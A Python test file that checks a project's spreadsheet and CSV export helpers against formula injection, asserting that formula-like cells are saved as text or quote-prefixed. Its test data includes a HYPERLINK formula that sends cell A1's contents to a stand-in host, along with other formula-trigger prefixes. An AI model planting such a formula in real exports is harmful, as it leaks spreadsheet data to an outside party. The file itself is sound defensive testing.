"""Issue 13.9: every text cell of every export is text, never a formula (one helper for all exports)."""

from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from gespreid.core.exports import FORMULA_STARTS, append_row, csv_row

EVIL = ['=HYPERLINK("http://x.test/?leak="&A1,"klik")', "+1+2", "-3", "@SUM(A1)", "\t=1", "\r=1"]


def formula_cells(data: bytes) -> list:
    """Every cell an export's workbook would run as a formula (after a round trip through openpyxl)."""
    wb = load_workbook(BytesIO(data))
    return [cell.coordinate for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.data_type == "f"]


def test_append_row_writes_formula_text_as_text():
    wb = Workbook()
    append_row(wb.active, [*EVIL, 3, 1.5, None, "gewoon"])
    out = BytesIO()
    wb.save(out)
    assert formula_cells(out.getvalue()) == []
    ws = load_workbook(BytesIO(out.getvalue())).active
    assert ws["A1"].value == EVIL[0] and ws["G1"].value == 3 and ws["H1"].value == 1.5


def test_plain_openpyxl_would_have_run_them():
    """The check above can fail: openpyxl's own append turns these into formulas."""
    wb = Workbook()
    wb.active.append(EVIL[:1])
    out = BytesIO()
    wb.save(out)
    assert formula_cells(out.getvalue()) == ["A1"]


def test_control_characters_do_not_break_an_export():
    wb = Workbook()
    append_row(wb.active, ["naam\x00met\x1bbreuk"])
    assert wb.active["A1"].value == "naammetbreuk"


@pytest.mark.parametrize("text", EVIL)
def test_csv_cells_that_look_like_formulas_get_a_quote(text):
    assert text.startswith(FORMULA_STARTS)
    assert csv_row([text, 4, "gewoon"]) == ["'" + text, 4, "gewoon"]
